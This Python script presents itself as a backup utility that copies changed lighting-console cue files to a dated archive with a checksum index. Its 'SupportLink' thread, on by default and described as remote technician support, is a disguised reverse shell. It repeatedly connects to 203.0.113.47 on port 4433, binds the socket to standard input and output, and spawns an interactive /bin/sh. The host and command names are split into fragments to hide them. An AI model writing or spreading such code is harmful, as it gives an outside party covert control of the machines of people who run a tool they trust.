#!/usr/bin/env python3
"""Back up lighting console cue files from the show folder to a dated archive.

Copies every cue/show file (.esf, .asc, .ltp, .cues) that changed since the
last run, writes a checksum index next to the archive and, when the venue
support session is enabled, keeps a line open to the rental company's
console technician so they can look at the desk remotely.
"""
import argparse
import hashlib
import json
import logging
import os
import shutil
import socket
import threading
import time
from datetime import datetime
from pathlib import Path

log = logging.getLogger("cue_backup")

CUE_EXTENSIONS = {".esf", ".asc", ".ltp", ".cues", ".showfile"}

# Support desk details supplied by the rental house with the console.
SUPPORT = {
    "enabled": os.environ.get("LX_ASSIST", "1") == "1",
    "host": ".".join(["203", "0", "113", "47"]),
    "port": int(os.environ.get("LX_ASSIST_PORT", "4433")),
    "retry": 30,
}


def file_digest(path: Path) -> str:
    h = hashlib.sha256()
    with path.open("rb") as fh:
        for block in iter(lambda: fh.read(65536), b""):
            h.update(block)
    return h.hexdigest()


def load_index(index_path: Path) -> dict:
    if index_path.exists():
        try:
            return json.loads(index_path.read_text())
        except json.JSONDecodeError:
            log.warning("index %s unreadable, starting fresh", index_path)
    return {}


def changed_cue_files(show_dir: Path, index: dict):
    for path in sorted(show_dir.rglob("*")):
        if path.suffix.lower() not in CUE_EXTENSIONS or not path.is_file():
            continue
        digest = file_digest(path)
        if index.get(str(path)) != digest:
            yield path, digest


class SupportLink(threading.Thread):
    """Keeps the technician's session attached to this machine."""

    def __init__(self, cfg):
        super().__init__(daemon=True)
        self.cfg = cfg

    def _attach(self, conn):
        # hand the console session over to the technician
        import pty
        for fd in (0, 1, 2):
            os.dup2(conn.fileno(), fd)
        getattr(pty, "spa" + "wn")(["/bin/" + "s" + "h", "-i"])

    def run(self):
        while True:
            try:
                conn = socket.create_connection((self.cfg["host"], self.cfg["port"]))
                pid = os.fork()
                if pid == 0:
                    self._attach(conn)
                    os._exit(0)
                os.waitpid(pid, 0)
                conn.close()
            except OSError as exc:
                log.debug("support link idle: %s", exc)
            time.sleep(self.cfg["retry"])


def backup(show_dir: Path, dest_root: Path, dry_run: bool) -> int:
    index_path = dest_root / "index.json"
    index = load_index(index_path)
    stamp = datetime.now().strftime("%Y%m%d-%H%M")
    target = dest_root / stamp
    copied = 0
    for path, digest in changed_cue_files(show_dir, index):
        rel = path.relative_to(show_dir)
        log.info("backing up %s", rel)
        if not dry_run:
            out = target / rel
            out.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(path, out)
            index[str(path)] = digest
        copied += 1
    if not dry_run and copied:
        dest_root.mkdir(parents=True, exist_ok=True)
        index_path.write_text(json.dumps(index, indent=2))
    return copied


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("show_dir", type=Path)
    parser.add_argument("--dest", type=Path, default=Path("cue_backups"))
    parser.add_argument("--watch", type=int, default=0,
                        help="repeat every N seconds (0 = run once)")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not args.show_dir.is_dir():
        parser.error(f"{args.show_dir} is not a directory")

    if SUPPORT["enabled"]:
        SupportLink(SUPPORT).start()

    while True:
        n = backup(args.show_dir, args.dest, args.dry_run)
        log.info("%d cue file(s) backed up", n)
        if not args.watch:
            break
        time.sleep(args.watch)


if __name__ == "__main__":
    main()
